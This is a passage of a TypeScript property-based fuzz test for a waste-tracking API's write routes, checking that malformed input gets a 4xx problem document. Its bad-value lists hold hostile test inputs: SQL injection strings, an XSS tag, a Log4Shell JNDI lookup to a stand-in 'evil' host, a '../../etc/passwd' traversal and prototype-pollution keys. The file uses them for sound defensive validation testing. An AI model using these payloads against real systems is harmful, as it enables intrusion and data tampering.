import fc from 'fast-check';
import type { Response } from 'supertest';
import {
  CROCKFORD_ALPHABET,
  MOD37_2_CHECK_SYMBOLS,
  partyStream,
  batchStream,
  textProblem,
} from '@wasteflow/domain';
import {
  appendedSince,
  describeEachStore,
  expectHeadUnchanged,
  AT,
  batchBody,
  Builders,
  consolidationBody,
  correctionBody,
  extraUscc,
  HW08_CODE,
  Keys,
  PARTIES,
  pickupBody,
  problemShapeErrors,
  RECEIVER_PERMIT,
  send,
  splitBody,
  streamEvents,
  treatmentBody,
  type World,
} from './support/fixtures';
import type { TestApp, TestStore } from './support/test-app';
import { seededApp } from './support/seeded-app';

/**
 * Generated malformed input on every write path (DESIGN.md §4: "Errors are RFC 9457 problem documents
 * with field-level detail for invalid input"; a malformed trace code is invalid, not "not found").
 * Every answer must be 4xx (never 5xx) and a problem document (`type`, `title`, `status`, `detail`,
 * `rule`; for 400 an `errors` array naming the field), and the whole run appends nothing.
 *
 * Deterministic: fast-check with a fixed seed and a bounded number of samples; every failing sample is
 * collected and reported together (request and answer), so one run shows every kind of failure.
 */

const SEED = 20260302;

// ---------------------------------------------------------------------------------------------------
// JSON text with values JSON.stringify cannot write (-0, 2^53 + 1, 1e309, …)

class Raw {
  constructor(readonly text: string) {}
  toString(): string {
    return `Raw(${this.text})`;
  }
}
const raw = (text: string) => new Raw(text);
const DELETE = Symbol('delete');

function toJson(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
  if (value !== null && typeof value === 'object')
    return `{${Object.entries(value)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJson(v)}`)
      .join(',')}}`;
  return JSON.stringify(value) ?? 'null';
}

type JsonPath = readonly (string | number)[];

function setIn(target: unknown, path: JsonPath, value: unknown): unknown {
  const copy: unknown = structuredClone(target);
  let node = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) {
    node = node[key] as Record<string | number, unknown>;
    if (node === null || typeof node !== 'object')
      throw new Error(`no ${fieldName(path)} in ${JSON.stringify(target)}`);
  }
  const last = path[path.length - 1];
  if (value === DELETE) delete node[last];
  else node[last] = value;
  return copy;
}

function fieldName(path: JsonPath): string {
  return path.reduce<string>(
    (name, key) => (typeof key === 'number' ? `${name}[${key}]` : name ? `${name}.${key}` : key),
    '',
  );
}

// ---------------------------------------------------------------------------------------------------
// bad values

const NASTY_STRINGS = [
  "'; DROP TABLE events; --",
  '{"$gt":""}',
  '<script>alert(1)</script>',
  '\u202Egnp.exe\u202C',
  '\u200F\u05E9\u05DC\u05D5\u05DD',
  '😀🗑️♻️',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '${jndi:ldap://evil/x}',
  '../../etc/passwd',
  '%00%0d%0a',
  'Robert"); DELETE FROM events;--',
  '\t\n\r',
];

const WRONG_TYPES: unknown[] = [null, true, false, [], {}, [1], { $gt: '' }, 'NaN', 'Infinity'];
const NASTY = fc.constantFrom<unknown>(...NASTY_STRINGS);
const HUGE_STRING = fc.constantFrom('x'.repeat(10_001), '字'.repeat(5_000));

/** A JSON number of kilograms that is never a valid positive mass. */
const BAD_MASS = fc.oneof(
  fc.constantFrom<unknown>(
    -1,
    0,
    raw('-0'),
    raw('-0.0'),
    1.0001,
    0.0005,
    -0.001,
    1_000_000_000.001,
    2e9,
    raw('1e308'),
    raw('-1e308'),
    raw('1e309'),
    raw('9007199254740993'),
    raw('1E-7'),
    '1',
    '1.5',
    'NaN',
    '-0',
    '1e3',
  ),
  fc.constantFrom(...WRONG_TYPES),
  NASTY,
  fc.double({ min: -1e12, max: -Number.MIN_VALUE, noNaN: true }),
  // four decimals
  fc
    .integer({ min: 1, max: 9_999_999 })
    .filter((n) => n % 10 !== 0)
    .map((n) => n / 10_000),
);

/** Bad for a mass that may be 0 (received, accepted). */
const BAD_MASS_OR_ZERO = BAD_MASS.filter(
  (v) => !(v === 0 || (v instanceof Raw && /^-0(\.0)?$/.test(v.text))),
);

const BAD_TIME = fc.oneof(
  fc.constantFrom<unknown>(
    '2026-03-02',
    '2026-03-02T09:00:00',
    '2026-03-02 09:00:00',
    'yesterday',
    '2026-13-02T09:00:00+08:00',
    '2026-02-30T09:00:00+08:00',
    '2026-03-02T25:00:00+08:00',
    '2026-03-02T09:00:00+25:00',
    '',
    1772416800000,
    raw('1e308'),
  ),
  fc.constantFrom(...WRONG_TYPES),
  NASTY,
  HUGE_STRING,
);

const BAD_STRING_TYPE = fc.constantFrom<unknown>(1, -0.5, null, true, [], {}, ['x'], { $ne: null });

function badText(maxLength: number, minLength = 1): fc.Arbitrary<unknown> {
  return fc.oneof(
    BAD_STRING_TYPE,
    fc.constant('x'.repeat(maxLength + 1)),
    fc.constant('字'.repeat(maxLength + 1)),
    // not text (DESIGN §2 "Text is text"): NUL, another control character, unpaired surrogates
    fc.constantFrom('a\u0000b', 'bell\u0007', 'cr\r\n', '\ud800', 'x\udfffy', '\u001b[2J'),
    ...(minLength > 0 ? [fc.constant('')] : []),
  );
}

/** A non-zero number of kilograms with at most 3 decimals, |x| ≤ 10^9 (a valid correction). */
function isValidDeltaKg(value: unknown): boolean {
  const n = value instanceof Raw ? Number(value.text) : value;
  return (
    typeof n === 'number' && n !== 0 && Math.abs(n) <= 1e9 && /^\d+(\.\d{1,3})?$/.test(String(Math.abs(n)))
  );
}

/** Trace codes that are never valid (derived from a real one: one symbol changed, transposed, cut …). */
function badTraceCodes(real: string): fc.Arbitrary<string> {
  const body = real.slice(0, -1);
  const check = real.slice(-1);
  return fc.oneof(
    // another check character
    fc.constantFrom(...MOD37_2_CHECK_SYMBOLS.split('').filter((c) => c !== check)).map((c) => body + c),
    // one symbol of the body changed (always caught by MOD 37-2)
    fc
      .tuple(fc.integer({ min: 0, max: body.length - 1 }), fc.constantFrom(...CROCKFORD_ALPHABET.split('')))
      .filter(([i, c]) => body[i] !== c)
      .map(([i, c]) => body.slice(0, i) + c + body.slice(i + 1) + check),
    // two adjacent different symbols swapped
    fc
      .integer({ min: 0, max: body.length - 2 })
      .filter((i) => body[i] !== body[i + 1])
      .map((i) => body.slice(0, i) + body[i + 1] + body[i] + body.slice(i + 2) + check),
    fc.constantFrom(
      real.slice(0, -2),
      `${real}0`,
      `${body}U${check}`,
      real.replace(/\d/, 'U'),
      '',
      'x',
      '330106W260302',
      'A'.repeat(300),
      "330106W260302' OR '1'='1",
      '330106W26030200000001~\u0000',
      '😀'.repeat(11),
    ),
  );
}

const BAD_USCC = fc.constantFrom<unknown>(
  PARTIES.receiver.uscc.slice(0, -1) + (PARTIES.receiver.uscc.endsWith('0') ? '1' : '0'),
  PARTIES.receiver.uscc.slice(0, 17),
  `${PARTIES.receiver.uscc}0`,
  PARTIES.receiver.uscc.replace(/^9/, 'I'),
  '913301XXMA2REC001Q',
  '',
  raw('913301141234567890'),
  null,
  ["'; DROP TABLE events; --"],
);

// ---------------------------------------------------------------------------------------------------
// the write paths

interface Field {
  readonly path: JsonPath;
  /** The field the errors must name (for `each` rules the array itself). */
  readonly reportedAs?: string;
  readonly bad: fc.Arbitrary<unknown>;
  /** May be removed to make the body invalid. */
  readonly required: boolean;
  /** Optional in the contract: absent and null mean the same (so null is no bad value here). */
  readonly optional?: boolean;
}

interface Spec {
  readonly route: string;
  /** Bulk item type (POST /v1/commands). */
  readonly bulkType: string;
  readonly path: string;
  /** Path parameters as the bulk item carries them in its body. */
  readonly params: Readonly<Record<string, string>>;
  readonly token: string;
  readonly body: Record<string, unknown>;
  readonly fields: readonly Field[];
  /** Where any string is fine (noise goes there). */
  readonly freeText: readonly JsonPath[];
  /** Malformed values of each path parameter, and the field a refusal must name. */
  readonly badParams: readonly {
    readonly name: string;
    readonly rule: string;
    readonly values: fc.Arbitrary<string>;
  }[];
}

interface Targets {
  readonly world: World;
  readonly permitParty: string;
  readonly newParty: string;
  readonly splitCode: string;
  readonly consolidate: readonly [string, string];
  readonly shipCode: string;
  readonly pickup: { readonly traceCode: string; readonly manifestNo: string };
  readonly receipt: { readonly traceCode: string; readonly manifestNo: string };
  readonly cancel: { readonly traceCode: string; readonly manifestNo: string };
  readonly treatCode: string;
  readonly correctCode: string;
  /** Batches with a pending correction request cr-1 of the generator's (to approve, to reject). */
  readonly approveCode: string;
  readonly rejectCode: string;
}

async function prepareTargets(b: Builders): Promise<Targets> {
  return {
    world: b.world,
    permitParty: PARTIES.receiver.uscc,
    newParty: extraUscc('330106', 901),
    splitCode: await b.generate(10),
    consolidate: [await b.generate(4), await b.generate(6)],
    shipCode: await b.generate(10),
    pickup: await b.consigned(10),
    receipt: await b.inTransit(10),
    cancel: await b.consigned(10),
    treatCode: await b.atReceiver(10),
    correctCode: await b.generate(10),
    approveCode: await pendingCorrection(b),
    rejectCode: await pendingCorrection(b),
  };
}

async function pendingCorrection(b: Builders): Promise<string> {
  const code = await b.generate(10);
  await b.requestCorrection(code);
  return code;
}

const BAD_REQUEST_ID = fc.constantFrom(
  'cr-0',
  'cr-',
  'CR-1',
  'cr-01',
  'cr-1a',
  '1',
  'cr-1234567890',
  "cr-1' OR 1=1--",
  'cr-１',
);

const BAD_MANIFEST_NO = fc.constantFrom(
  '2026330100000',
  '202633010000011',
  '20263301000000',
  '19993301000001',
  '20269901000001',
  '2026330100000A',
  '２０２６３３０１０００００１',
  "2026' OR 1=1--",
  '-20263301000001',
  '1e13',
);

function specs(x: Targets): Spec[] {
  const tok = x.world.tokens;
  const codeParam = (real: string) => ({
    name: 'code',
    rule: 'invalid-trace-code',
    values: badTraceCodes(real).filter((v) => v !== ''),
  });
  const manifestParam = { name: 'no', rule: 'invalid-manifest-number', values: BAD_MANIFEST_NO };
  const time = (path: JsonPath, required = true): Field => ({
    path,
    bad: BAD_TIME,
    required,
    optional: !required,
  });
  const mass = (path: JsonPath, required = true, reportedAs?: string): Field => ({
    path,
    bad: BAD_MASS,
    required,
    reportedAs,
    optional: !required && !reportedAs,
  });
  const code = (path: JsonPath, real: string): Field => ({ path, bad: badTraceCodes(real), required: true });
  return [
    {
      route: 'POST /v1/parties',
      bulkType: 'register-party',
      path: '/v1/parties',
      params: {},
      token: tok.admin as string,
      body: {
        uscc: x.newParty,
        name: '杭州西湖再生资源回收有限公司',
        roles: ['collector', 'carrier'],
        districtCode: '330106',
      },
      fields: [
        { path: ['uscc'], bad: BAD_USCC, required: true },
        { path: ['name'], bad: badText(200), required: true },
        {
          path: ['roles'],
          bad: fc.constantFrom<unknown>(
            [],
            'generator',
            ['generator', 'pilot'],
            ['Generator'],
            [null],
            Array(5).fill('carrier'),
            { 0: 'carrier' },
          ),
          required: true,
        },
        {
          path: ['roles', 0],
          reportedAs: 'roles',
          bad: fc.oneof(NASTY, fc.constantFrom<unknown>('admin', 'RECEIVER', 1, null)),
          required: false,
        },
        {
          path: ['districtCode'],
          bad: fc.constantFrom<unknown>('33010', '3301066', 'abcdef', 330106, '990106', '330006', '', null),
          required: true,
        },
        time(['occurredAt'], false),
      ],
      freeText: [],
      badParams: [],
    },
    {
      route: 'POST /v1/parties/{uscc}/permits',
      bulkType: 'grant-permit',
      path: `/v1/parties/${x.permitParty}/permits`,
      params: { uscc: x.permitParty },
      token: tok.regulator as string,
      body: {
        permitNo: 'FUZZ-0001',
        hwCategories: ['HW08'],
        wasteCodes: [HW08_CODE],
        operations: ['D10'],
        annualCapacityKg: 5000,
        validFrom: '2026-01-01',
        validTo: '2027-12-31',
      },
      fields: [
        { path: ['permitNo'], bad: badText(64), required: true },
        {
          path: ['hwCategories'],
          bad: fc.constantFrom<unknown>('HW08', ['HW41'], ['HW00'], ['HW51'], [8], [null], { HW08: true }),
          required: false,
          optional: true,
        },
        {
          path: ['hwCategories', 0],
          reportedAs: 'hwCategories',
          bad: fc.oneof(NASTY, fc.constantFrom<unknown>('HW41', 'HW99', 'HW-08', 8)),
          required: false,
        },
        {
          path: ['wasteCodes', 0],
          reportedAs: 'wasteCodes',
          bad: fc.oneof(
            NASTY,
            fc.constantFrom<unknown>('900-249-41', '900-249-8', '999-999-99', '900-2490-8', 900249),
          ),
          required: false,
        },
        {
          path: ['operations'],
          bad: fc.constantFrom<unknown>([], 'D10', [['D10']], Array(31).fill('D10')),
          required: true,
        },
        {
          path: ['operations', 0],
          reportedAs: 'operations',
          bad: fc.oneof(NASTY, fc.constantFrom<unknown>('R10', 'D2', 'Y17', 'burn', 10, null)),
          required: false,
        },
        mass(['annualCapacityKg']),
        {
          path: ['validFrom'],
          bad: fc.oneof(
            BAD_TIME.filter((v) => v !== '2026-03-02'),
            fc.constantFrom<unknown>('2026-1-1', '20260101', '2026-02-29'),
          ),
          required: true,
        },
        {
          path: ['validTo'],
          bad: fc.constantFrom<unknown>('2027-13-31', '2027-02-29', 'forever', 20271231, null),
          required: true,
        },
      ],
      freeText: [],
      badParams: [
        {
          name: 'uscc',
          rule: 'invalid-uscc',
          values: BAD_USCC.filter((v): v is string => typeof v === 'string' && v !== ''),
        },
      ],
    },
    {
      route: 'POST /v1/parties/{uscc}/permits/{permitNo}/revoke',
      bulkType: 'revoke-permit',
      path: `/v1/parties/${x.permitParty}/permits/${RECEIVER_PERMIT.permitNo}/revoke`,
      params: { uscc: x.permitParty, permitNo: RECEIVER_PERMIT.permitNo },
      token: tok.regulator as string,
      body: { reason: '超出许可范围经营' },
      fields: [{ path: ['reason'], bad: badText(500), required: true }, time(['occurredAt'], false)],
      freeText: [],
      badParams: [
        {
          name: 'uscc',
          rule: 'invalid-uscc',
          values: BAD_USCC.filter((v): v is string => typeof v === 'string' && v !== ''),
        },
        { name: 'permitNo', rule: 'invalid-text', values: fc.constantFrom('p'.repeat(65), '   ') },
      ],
    },
    {
      route: 'POST /v1/tokens (party)',
      bulkType: 'issue-token',
      path: '/v1/tokens',
      params: {},
      token: tok.admin as string,
      body: { kind: 'party', partyUscc: PARTIES.generator.uscc, label: 'ERP' },
      fields: [
        {
          path: ['kind'],
          bad: fc.constantFrom<unknown>('root', 'PARTY', '', null, 1, ['party']),
          required: true,
        },
        { path: ['partyUscc'], bad: BAD_USCC, required: true },
        { path: ['label'], bad: badText(100, 0), required: false, optional: true },
      ],
      freeText: [['label']],
      badParams: [],
    },
    {
      route: 'POST /v1/tokens (regulator)',
      bulkType: 'issue-token',
      path: '/v1/tokens',
      params: {},
      token: tok.admin as string,
      body: { kind: 'regulator', districts: ['3301'], categories: ['hazardous'] },
      fields: [
        {
          path: ['districts'],
          bad: fc.constantFrom<unknown>([], '3301', [3301], ['3'], ['330106X'], Array(101).fill('33')),
          required: true,
        },
        {
          path: ['categories'],
          bad: fc.constantFrom<unknown>(
            [],
            'hazardous',
            ['toxic'],
            ['Hazardous'],
            Array(6).fill('hazardous'),
          ),
          required: true,
        },
      ],
      freeText: [],
      badParams: [],
    },
    {
      route: 'POST /v1/batches',
      bulkType: 'generate-waste',
      path: '/v1/batches',
      params: {},
      token: tok.generator as string,
      body: { ...batchBody(10), description: '废矿物油' },
      fields: [
        {
          path: ['category'],
          bad: fc.oneof(NASTY, fc.constantFrom<unknown>('Hazardous', 'medical', '', null, 1)),
          required: true,
        },
        {
          path: ['wasteCode'],
          bad: fc.oneof(NASTY, fc.constantFrom<unknown>('900-249-41', 'HW08', '900-249-8', 900249008, '')),
          required: false,
          optional: true,
        },
        { path: ['description'], bad: badText(500, 0), required: false, optional: true },
        mass(['massKg']),
        time(['occurredAt']),
      ],
      freeText: [['description']],
      badParams: [],
    },
    {
      route: 'POST /v1/batches/{code}/split',
      bulkType: 'split-batch',
      path: `/v1/batches/${x.splitCode}/split`,
      params: { traceCode: x.splitCode },
      token: tok.generator as string,
      body: splitBody([1, 2]),
      fields: [
        {
          path: ['partsKg'],
          bad: fc.oneof(fc.constantFrom<unknown>([], 1, '1', Array(101).fill(0.01), { 0: 1 }), NASTY),
          required: true,
        },
        mass(['partsKg', 1], false, 'partsKg'),
        time(['occurredAt']),
      ],
      freeText: [],
      badParams: [codeParam(x.splitCode)],
    },
    {
      route: 'POST /v1/consolidations',
      bulkType: 'consolidate-batches',
      path: '/v1/consolidations',
      params: {},
      token: tok.generator as string,
      body: consolidationBody([
        { traceCode: x.consolidate[0], massKg: 4 },
        { traceCode: x.consolidate[1], massKg: 6 },
      ]),
      fields: [
        {
          path: ['lines'],
          bad: fc.constantFrom<unknown>(
            [],
            'x',
            {},
            [{ traceCode: x.consolidate[0], massKg: 4 }],
            Array(201).fill({ traceCode: x.consolidate[0], massKg: 1 }),
          ),
          required: true,
        },
        code(['lines', 0, 'traceCode'], x.consolidate[0]),
        mass(['lines', 1, 'massKg']),
        {
          path: ['lines', 1],
          reportedAs: 'lines',
          bad: fc.constantFrom<unknown>(null, 'x', 1, true),
          required: false,
        },
        time(['occurredAt']),
      ],
      freeText: [],
      badParams: [],
    },
    {
      route: 'POST /v1/manifests',
      bulkType: 'issue-manifest',
      path: '/v1/manifests',
      params: {},
      token: tok.generator as string,
      body: {
        lines: [{ traceCode: x.shipCode, massKg: 10 }],
        carrierUscc: PARTIES.carrier.uscc,
        receiverUscc: PARTIES.receiver.uscc,
        plannedAt: AT.planned,
      },
      fields: [
        {
          path: ['lines'],
          bad: fc.constantFrom<unknown>([], {}, 'x', [null], [[x.shipCode]]),
          required: true,
        },
        code(['lines', 0, 'traceCode'], x.shipCode),
        mass(['lines', 0, 'massKg'], false),
        { path: ['carrierUscc'], bad: BAD_USCC, required: true },
        { path: ['receiverUscc'], bad: BAD_USCC, required: true },
        time(['plannedAt']),
        time(['occurredAt'], false),
      ],
      freeText: [],
      badParams: [],
    },
    {
      route: 'POST /v1/manifests/{no}/pickup',
      bulkType: 'pick-up-manifest',
      path: `/v1/manifests/${x.pickup.manifestNo}/pickup`,
      params: { manifestNo: x.pickup.manifestNo },
      token: tok.carrier as string,
      body: { ...pickupBody(), weighedKg: 10.2 },
      fields: [
        {
          path: ['vehiclePlate'],
          bad: fc.oneof(
            NASTY,
            fc.constantFrom<unknown>('浙A1234', 'AB12345', '浙I12345', '浙A-123456789', 12345, '', null),
          ),
          required: true,
        },
        time(['occurredAt']),
        mass(['weighedKg'], false),
      ],
      freeText: [],
      badParams: [manifestParam],
    },
    {
      route: 'POST /v1/manifests/{no}/receipt',
      bulkType: 'receive-manifest',
      path: `/v1/manifests/${x.receipt.manifestNo}/receipt`,
      params: { manifestNo: x.receipt.manifestNo },
      token: tok.receiver as string,
      body: {
        occurredAt: AT.received,
        lines: [{ traceCode: x.receipt.traceCode, receivedKg: 10, acceptedKg: 9.5, reason: '含水率超标' }],
      },
      fields: [
        time(['occurredAt']),
        {
          path: ['lines'],
          bad: fc.constantFrom<unknown>(
            [],
            {},
            'x',
            [null],
            Array(201).fill({ traceCode: x.receipt.traceCode, receivedKg: 1, acceptedKg: 1 }),
          ),
          required: true,
        },
        code(['lines', 0, 'traceCode'], x.receipt.traceCode),
        { path: ['lines', 0, 'receivedKg'], bad: BAD_MASS_OR_ZERO, required: true },
        { path: ['lines', 0, 'acceptedKg'], bad: BAD_MASS_OR_ZERO, required: true },
        {
          path: ['lines', 0, 'reason'],
          bad: fc.oneof(BAD_STRING_TYPE, fc.constant('x'.repeat(501))),
          required: false,
          optional: true,
        },
      ],
      freeText: [['lines', 0, 'reason']],
      badParams: [manifestParam],
    },
    {
      route: 'POST /v1/manifests/{no}/cancel',
      bulkType: 'cancel-manifest',
      path: `/v1/manifests/${x.cancel.manifestNo}/cancel`,
      params: { manifestNo: x.cancel.manifestNo },
      token: tok.generator as string,
      body: { reason: '车辆故障，改期转移' },
      fields: [{ path: ['reason'], bad: badText(500), required: true }, time(['occurredAt'], false)],
      freeText: [],
      badParams: [manifestParam],
    },
    {
      route: 'POST /v1/batches/{code}/treatments',
      bulkType: 'treat-waste',
      path: `/v1/batches/${x.treatCode}/treatments`,
      params: { traceCode: x.treatCode },
      token: tok.receiver as string,
      body: treatmentBody(1),
      fields: [
        {
          path: ['operation'],
          bad: fc.oneof(
            NASTY,
            fc.constantFrom<unknown>('collect', 'store', 'R10', 'D2', 'D10; DROP', '', 10, null),
          ),
          required: true,
        },
        mass(['massKg']),
        time(['occurredAt']),
      ],
      freeText: [],
      badParams: [codeParam(x.treatCode)],
    },
    {
      route: 'POST /v1/batches/{code}/correction-requests',
      bulkType: 'request-mass-correction',
      path: `/v1/batches/${x.correctCode}/correction-requests`,
      params: { traceCode: x.correctCode },
      token: tok.generator as string,
      body: correctionBody(-1),
      fields: [
        { path: ['deltaKg'], bad: BAD_MASS.filter((v) => !isValidDeltaKg(v)), required: true },
        { path: ['reason'], bad: badText(500), required: true },
        time(['occurredAt']),
      ],
      freeText: [],
      badParams: [codeParam(x.correctCode)],
    },
    ...(['approve', 'reject'] as const).map((how): Spec => {
      const code = how === 'approve' ? x.approveCode : x.rejectCode;
      return {
        route: `POST /v1/batches/{code}/correction-requests/{requestId}/${how}`,
        bulkType: `${how}-mass-correction`,
        path: `/v1/batches/${code}/correction-requests/cr-1/${how}`,
        params: { traceCode: code, requestId: 'cr-1' },
        token: tok.regulator as string,
        body: how === 'approve' ? { note: '已核对地磅单' } : { reason: '无复磅凭证' },
        fields:
          how === 'approve'
            ? [{ path: ['note'], bad: badText(500, 0), required: false, optional: true }]
            : [{ path: ['reason'], bad: badText(500), required: true }],
        freeText: [],
        badParams: [codeParam(code), { name: 'requestId', rule: 'invalid-value', values: BAD_REQUEST_ID }],
      };
    }),
  ];
}

// ---------------------------------------------------------------------------------------------------
// cases

interface FieldCase {
  readonly kind: 'fields';
  readonly spec: Spec;
  readonly body: unknown;
  /** Fields the errors must name. */
  readonly fields: readonly string[];
  readonly note: string;
}

/** 1–2 malformed fields (replaced or removed), maybe an unknown field, maybe nasty text where text is free. */
function fieldCase(spec: Spec): fc.Arbitrary<FieldCase> {
  const independent = (a: Field, b: Field) => {
    const pa = fieldName(a.path);
    const pb = fieldName(b.path);
    return !pa.startsWith(pb) && !pb.startsWith(pa);
  };
  const mutation = (field: Field) => {
    const bad = field.optional ? field.bad.filter((v) => v !== null) : field.bad;
    return (
      field.required
        ? fc.oneof({ weight: 5, arbitrary: bad }, { weight: 1, arbitrary: fc.constant<unknown>(DELETE) })
        : bad
    ).map((value) => ({ field, value }));
  };
  const pick = fc.integer({ min: 0, max: spec.fields.length - 1 });
  return fc
    .record({
      first: pick,
      second: fc.option(pick, { nil: undefined }),
      extra: fc.option(
        fc.tuple(
          fc.constantFrom(
            'isAdmin',
            '$where',
            'role',
            'custodianUscc',
            'heldKg',
            '__proto_',
            'extra field',
            '😀',
            '',
          ),
          fc.constantFrom<unknown>(true, 1, 'x', {}),
        ),
        { nil: undefined },
      ),
      noise:
        spec.freeText.length > 0
          ? fc.option(fc.tuple(fc.constantFrom(...spec.freeText), NASTY), { nil: undefined })
          : fc.constant(undefined),
    })
    .chain(({ first, second, extra, noise }) => {
      const chosen = [spec.fields[first]];
      if (second !== undefined && independent(spec.fields[first], spec.fields[second]))
        chosen.push(spec.fields[second]);
      return fc.tuple(...chosen.map(mutation)).map((mutations) => {
        let body: unknown = spec.body;
        const fields: string[] = [];
        const notes: string[] = [];
        for (const { field, value } of mutations) {
          // free text replaced by nasty text is valid: the mutation is then only noise
          body = setIn(body, field.path, value);
          fields.push(field.reportedAs ?? fieldName(field.path));
          notes.push(`${fieldName(field.path)}=${value === DELETE ? '(removed)' : show(value)}`);
        }
        // noise only where the mutations left the free-text field in place
        if (noise && !chosen.some((f) => fieldName(noise[0]).startsWith(fieldName(f.path)))) {
          body = setIn(body, noise[0], noise[1]);
          notes.push(`${fieldName(noise[0])}=${show(noise[1])} (noise)`);
        }
        if (extra) {
          body = setIn(body, [extra[0]], extra[1]);
          fields.push(extra[0]);
          notes.push(`+${extra[0]}`);
        }
        return { kind: 'fields' as const, spec, body, fields, note: notes.join(', ') };
      });
    });
}

function show(value: unknown): string {
  const text = value instanceof Raw ? value.text : (JSON.stringify(value) ?? String(value));
  return text.length > 60 ? `${text.slice(0, 60)}…(${text.length})` : text;
}

interface RawCase {
  readonly kind: 'raw';
  readonly spec: Spec;
  readonly contentType: string | null;
  readonly text: string;
  readonly note: string;
  /** The rule the 400 must name (the JSON limits of DESIGN.md §10), when one is expected. */
  readonly rule?: string;
}

function deep(depth: number, open: string, close: string, inner = '1'): string {
  return open.repeat(depth) + inner + close.repeat(depth);
}

type RawGroup =
  'not JSON' | 'JSON but not an object' | 'deeply nested' | 'not JSON content' | 'over the JSON limits';

/** Whole bodies that are not the JSON object the route takes, by group. */
function rawCases(spec: Spec, group: RawGroup): RawCase[] {
  const valid = toJson(spec.body);
  const json = 'application/json';
  const make = (note: string, text: string, contentType: string | null = json): RawCase => ({
    kind: 'raw',
    spec,
    contentType,
    text,
    note,
  });
  switch (group) {
    case 'not JSON':
      return [
        make('empty body (application/json)', ''),
        make('invalid JSON: cut short', valid.slice(0, -1)),
        make('invalid JSON: trailing comma', `${valid.slice(0, -1)},}`),
        make('invalid JSON: single quotes', valid.replace(/"/g, "'")),
        make('invalid JSON: NaN literal', `{"n":NaN,${valid.slice(1)}`),
        make('invalid JSON: comment', `/* c */${valid}`),
        make('invalid JSON: two documents', `${valid}${valid}`),
        make('__proto__ key', `{"__proto__":{"isAdmin":true},${valid.slice(1)}`),
        make('constructor.prototype key', `{"constructor":{"prototype":{"isAdmin":true}},${valid.slice(1)}`),
      ];
    case 'JSON but not an object':
      return [
        make('empty body, no content type', '', null),
        make('JSON array', '[]'),
        make('JSON array of the body', `[${valid}]`),
        make('JSON string', '"x"'),
        make('JSON number', '1e308'),
        make('JSON null', 'null'),
        make('JSON true', 'true'),
      ];
    case 'deeply nested':
      return [
        make('nested 64 deep', `{"x":${deep(64, '{"a":', '}')},${valid.slice(1)}`),
        make('nested 1,000 deep', `{"x":${deep(1000, '{"a":', '}')},${valid.slice(1)}`),
        make('nested 5,000 deep (objects)', `{"x":${deep(5000, '{"a":', '}')},${valid.slice(1)}`),
        make('nested 5,000 deep (arrays)', `{"x":${deep(5000, '[', ']')},${valid.slice(1)}`),
        make('nested 100,000 deep (arrays)', `{"x":${deep(100_000, '[', ']')},${valid.slice(1)}`),
      ];
    case 'over the JSON limits': {
      const withRule = (note: string, text: string, rule: string): RawCase => ({ ...make(note, text), rule });
      const firstKey = valid.slice(1, valid.indexOf(':'));
      const keys = (n: number) => Array.from({ length: n }, (_, i) => `"k${i}":1`).join(',');
      return [
        withRule('1,001 keys in one object', `{"x":{${keys(1001)}},${valid.slice(1)}`, 'too-many-keys'),
        withRule(
          '1,001 elements in one array',
          `{"x":[${Array(1001).fill(1).join(',')}],${valid.slice(1)}`,
          'too-many-items',
        ),
        withRule('17 levels deep', `{"x":${deep(16, '{"a":', '}')},${valid.slice(1)}`, 'body-too-deep'),
        withRule(
          'more than 2,500 values',
          `{"x":[${Array(30)
            .fill(`[${Array(100).fill(1).join(',')}]`)
            .join(',')}],${valid.slice(1)}`,
          'too-many-values',
        ),
        withRule('the first key twice', `{${firstKey}:null,${valid.slice(1)}`, 'duplicate-key'),
        withRule('a byte order mark', `\ufeff${valid}`, 'body-bom'),
      ];
    }
    case 'not JSON content':
      return [
        make('text/plain', valid, 'text/plain'),
        make('form encoded', 'a=1&b=2', 'application/x-www-form-urlencoded'),
        make('XML', '<batch><massKg>1</massKg></batch>', 'application/xml'),
        make('octet stream', valid, 'application/octet-stream'),
      ];
  }
}

interface ParamCase {
  readonly kind: 'param';
  readonly spec: Spec;
  readonly path: string;
  readonly field: string;
  readonly rule: string;
  readonly note: string;
}

function paramCase(spec: Spec): fc.Arbitrary<ParamCase> {
  return fc.constantFrom(...spec.badParams).chain((param) =>
    param.values.map((value) => {
      const segments = spec.path.split('/');
      // /v1/<collection>/{code | no | uscc}/… and /v1/parties/{uscc}/permits/{permitNo}/revoke
      const index = param.name === 'permitNo' || param.name === 'requestId' ? 5 : 3;
      const path = [
        ...segments.slice(0, index),
        encodeURIComponent(value),
        ...segments.slice(index + 1),
      ].join('/');
      // a value that is no text (NUL, a control character) is refused by the edge for every route, naming the path
      const notText = [...value].some((c) => {
        const code = c.codePointAt(0) ?? 0;
        return (code < 0x20 && c !== '\t' && c !== '\n') || code === 0x7f;
      });
      return {
        kind: 'param' as const,
        spec,
        path,
        field: notText ? 'path' : param.name,
        rule: notText ? 'invalid-request' : param.rule,
        note: `${param.name}=${show(value)}`,
      };
    }),
  );
}

// ---------------------------------------------------------------------------------------------------
// running and judging

interface Failure {
  readonly request: string;
  readonly answer: string;
  readonly why: string;
}

function judge(
  response: Response,
  expectation: { fields?: readonly string[]; rule?: string; status?: number },
): string | null {
  if (response.status >= 500) return `server error ${response.status}`;
  if (response.status < 400) return `not refused: ${response.status}`;
  if (expectation.status !== undefined && response.status !== expectation.status)
    return `status ${response.status}, expected ${expectation.status}`;
  const shape = problemShapeErrors(response.headers['content-type'], response.body, response.status);
  if (shape.length > 0) return `problem document: ${shape.join('; ')}`;
  if (expectation.rule !== undefined && response.body.rule !== expectation.rule)
    return `rule ${response.body.rule}, expected ${expectation.rule}`;
  if (expectation.fields && response.status === 400) {
    const named = ((response.body.errors ?? []) as { field: string }[]).map((e) => e.field);
    const missing = expectation.fields.filter(
      (f) => !named.some((n) => n === f || n.startsWith(`${f}.`) || n.startsWith(`${f}[`)),
    );
    if (missing.length > 0) return `errors do not name ${missing.join(', ')} (named: ${named.join(', ')})`;
  }
  if (expectation.fields && response.status !== 400)
    return `status ${response.status}, expected 400 naming ${expectation.fields.join(', ')}`;
  return null;
}

function summary(response: Response): string {
  const text = JSON.stringify(response.body);
  return `${response.status} ${response.headers['content-type'] ?? ''} ${text.length > 400 ? `${text.slice(0, 400)}…` : text}`;
}

class Fuzzer {
  readonly failures: Failure[] = [];
  requests = 0;

  constructor(
    private readonly t: TestApp,
    private readonly keys: Keys,
